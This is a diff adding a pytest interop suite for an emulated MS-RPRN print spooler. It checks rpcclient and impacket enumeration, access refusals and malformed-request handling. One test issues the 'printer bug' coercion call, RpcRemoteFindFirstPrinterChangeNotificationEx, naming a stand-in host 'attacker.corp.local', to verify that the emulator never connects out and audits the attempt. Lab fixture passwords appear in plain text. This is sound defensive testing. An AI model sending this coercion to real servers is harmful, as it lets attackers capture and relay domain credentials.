@@ -1,0 +1,164 @@
+"""spoolss (MS-RPRN) against the clients a lab uses (issue 15 item 5, "What it must show"):
+Samba's ``rpcclient`` (enumprinters, getprinter, enumdrivers, getdata: its NDR parser reads
+every custom-marshaled buffer, relative offsets included) and impacket's ``rprn`` over SMB --
+the printer-bug coercion (printerbug.py / dementor: RpcOpenPrinter then
+RpcRemoteFindFirstPrinterChangeNotificationEx) answered as Windows answers an unreachable
+client, without a single outbound connection, and written to the audit log.  Credentials are
+the corp fixture's: Administrator / Adm!n2003, alice / Wonderland1.  A missing client fails."""
+
+from __future__ import annotations
+
+import json
+import socket
+from collections.abc import Iterator
+from pathlib import Path
+from typing import Any
+
+import pytest
+from impacket.dcerpc.v5 import rprn, transport  # type: ignore[import-untyped]
+from impacket.dcerpc.v5.dtypes import NULL  # type: ignore[import-untyped]
+from impacket.dcerpc.v5.rpcrt import DCERPCException  # type: ignore[import-untyped]
+
+from helpers import HOST, ServerThread, run_tool
+
+pytestmark = pytest.mark.interop
+
+ADMIN = ("Administrator", "Adm!n2003")
+ALICE = ("alice", "Wonderland1")
+PRINTER_CALLBACK_EVENT = 100003
+
+
+def rpcclient(server: ServerThread, user: tuple[str, str] | None, *commands: str) -> str:
+    creds = ["-U", f"CORP/{user[0]}%{user[1]}"] if user else ["-U", "", "-N"]
+    result = run_tool(["rpcclient", "-p", str(server.port), *creds, HOST,
+                       "-c", "; ".join(commands)])
+    return result.stdout + result.stderr
+
+
+@pytest.fixture(scope="module")
+def dc() -> Iterator[ServerThread]:
+    with ServerThread("win2016-dc") as server:
+        yield server
+
+
+def test_rpcclient_enumprinters_as_administrator(dc: ServerThread) -> None:
+    out = rpcclient(dc, ADMIN, "enumprinters", "enumprinters 2")
+    assert "name:[\\\\LEGACYSRV\\HPLJ4250]" in out, out
+    assert "comment:[HP LaserJet 4250 - 2nd floor]" in out
+    assert "sharename:[HPLJ4250]" in out and "drivername:[Generic / Text Only]" in out
+    assert "SID: S-1-1-0" in out  # level 2's security descriptor parsed too
+
+
+def test_rpcclient_getprinter_enumdrivers_getdata(dc: ServerThread) -> None:
+    out = rpcclient(dc, ADMIN, "getprinter HPLJ4250 2", "enumdrivers 3", "getdriverdir",
+                    "getdata . Architecture", "getdata . OSVersion", "getdata . MajorVersion")
+    assert "printername:[\\\\LEGACYSRV\\HPLJ4250]" in out, out
+    assert "Driver Name: [Generic / Text Only]" in out and "Architecture: [Windows x64]" in out
+    assert "Directory Name:[C:\\Windows\\system32\\spool\\DRIVERS\\W32X86]" in out
+    assert "Architecture: REG_SZ: Windows x64" in out
+    assert "OsMajor: 10" in out and "OsBuild: 14393" in out
+    assert "MajorVersion: REG_DWORD: 0x00000003" in out
+    assert "result was" not in out.replace("result was WERR_OK", "")
+
+
+def test_rpcclient_user_lists_and_is_refused_changes(dc: ServerThread) -> None:
+    out = rpcclient(dc, ALICE, "enumprinters", "setprinter HPLJ4250 x")
+    assert "name:[\\\\LEGACYSRV\\HPLJ4250]" in out and "WERR_ACCESS_DENIED" in out, out
+
+
+@pytest.mark.parametrize("profile,listed,refusal", [
+    # 2000: spoolss in NullSessionPipes and the anonymous token holds Everyone.
+    ("win2000", True, ""),
+    # 2003: the pipe opens (NullSessionPipes) but Everyone excludes anonymous.
+    ("win2003", False, "WERR_ACCESS_DENIED"),
+    # 2016: not a null-session pipe: the CREATE is refused.
+    ("win2016", False, "Could not initialise spoolss. Error was NT_STATUS_ACCESS_DENIED"),
+])
+def test_rpcclient_anonymous_per_profile(profile: str, listed: bool, refusal: str) -> None:
+    with ServerThread(profile) as server:
+        out = rpcclient(server, None, "enumprinters")
+    assert ("name:[\\\\LEGACYSRV\\HPLJ4250]" in out) is listed, out
+    assert refusal in out
+
+
+def _rprn(server: ServerThread, user: tuple[str, str]) -> Any:
+    rpc = transport.DCERPCTransportFactory(rf"ncacn_np:{HOST}[\pipe\spoolss]")
+    rpc.set_dport(server.port)
+    rpc.set_credentials(user[0], user[1], "CORP")
+    dce = rpc.get_dce_rpc()
+    dce.connect()
+    dce.bind(rprn.MSRPC_UUID_RPRN)
+    return dce
+
+
+def test_printerbug_answers_unavailable_never_connects_and_is_audited(
+        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
+    log = tmp_path / "audit.jsonl"
+    with ServerThread("win2016-dc", audit_log=str(log)) as server:
+        dce = _rprn(server, ALICE)
+        handle = rprn.hRpcOpenPrinter(dce, f"\\\\{HOST}\x00")["pHandle"]
+        # From here on any outbound connection made in this process (the server runs in a
+        # thread of it) is recorded -- and refused.
+        attempts: list[Any] = []
+        real_connect = socket.socket.connect
+
+        def record(sock: socket.socket, address: Any) -> Any:
+            attempts.append(address)
+            raise OSError("outbound connection attempted")
+
+        monkeypatch.setattr(socket.socket, "connect", record)
+        monkeypatch.setattr(socket.socket, "connect_ex", record)
+        with pytest.raises(DCERPCException) as info:
+            rprn.hRpcRemoteFindFirstPrinterChangeNotificationEx(
+                dce, handle, rprn.PRINTER_CHANGE_ADD_JOB,
+                pszLocalMachine="\\\\attacker.corp.local\x00")
+        monkeypatch.setattr(socket.socket, "connect", real_connect)
+        assert "RPC_S_SERVER_UNAVAILABLE" in str(info.value)  # printerbug.py: "Attack worked"
+        assert attempts == []
+        rprn.hRpcClosePrinter(dce, handle)
+        dce.disconnect()
+    server.config.audit.close()
+    events = [json.loads(line) for line in log.read_text(encoding="utf-8").splitlines()]
+    coercions = [e for e in events if e["EventID"] == PRINTER_CALLBACK_EVENT]
+    assert len(coercions) == 1, events
+    event = coercions[0]
+    assert event["TargetHost"] == "\\\\attacker.corp.local"
+    assert event["SubjectUserName"] == "alice" and event["Provider"] == "smbemu"
+    assert event["OperationName"] == "RpcRemoteFindFirstPrinterChangeNotificationEx"
+    assert event["Status"] == 1722 and event["ConnectedOut"] is False
+
+
+def test_impacket_enum_open_close(dc: ServerThread) -> None:
+    dce = _rprn(dc, ADMIN)
+    resp = rprn.hRpcEnumPrinters(dce, rprn.PRINTER_ENUM_LOCAL, NULL, 2)
+    assert resp["pcReturned"] == 1
+    assert "HPLJ4250".encode("utf-16-le") in b"".join(resp["pPrinterEnum"])
+    with pytest.raises(DCERPCException) as info:
+        rprn.hRpcOpenPrinter(dce, "\\\\LEGACYSRV\\NoSuchPrinter\x00")
+    assert "ERROR_INVALID_PRINTER_NAME" in str(info.value)
+    client = rprn.SPLCLIENT_CONTAINER()
+    client["Level"] = 1
+    client["ClientInfo"]["tag"] = 1
+    info1 = client["ClientInfo"]["pClientInfo1"]
+    info1["dwSize"], info1["pMachineName"], info1["pUserName"] = 28, "KALI\x00", "alice\x00"
+    info1["dwBuildNum"], info1["dwMajorVersion"], info1["dwMinorVersion"] = 9600, 6, 3
+    info1["wProcessorArchitecture"] = 9
+    handle = rprn.hRpcOpenPrinterEx(dce, "\\\\LEGACYSRV\\HPLJ4250\x00",
+                                    accessRequired=0x00020008,  # PRINTER_READ
+                                    pClientInfo=client)["pHandle"]
+    rprn.hRpcClosePrinter(dce, handle)
+    path = rprn.hRpcGetPrinterDriverDirectory(dce, NULL, "Windows x64\x00", 1)
+    assert "spool\\DRIVERS\\x64".encode("utf-16-le") in b"".join(path["pDriverDirectory"])
+
+
+def test_malformed_requests_fault_and_the_pipe_lives_on(dc: ServerThread) -> None:
+    """Garbage stubs to the decoded opnums: an NDR fault, never a traceback or a dropped pipe."""
+    dce = _rprn(dc, ADMIN)
+    for opnum in (0, 1, 8, 26, 65, 69, 78):
+        dce.call(opnum, b"\xff" * 13)
+        with pytest.raises(DCERPCException) as info:
+            dce.recv()
+        # nca_s_fault_ndr (0x6F7 rpc_x_bad_stub_data): the stub could not be decoded -- not
+        # nca_s_fault_remote_... / a generic failure, which a handler exception would give
+        assert "rpc_x_bad_stub_data" in str(info.value), (opnum, str(info.value))
+    assert rprn.hRpcEnumPrinters(dce, rprn.PRINTER_ENUM_LOCAL, NULL, 1)["pcReturned"] == 1
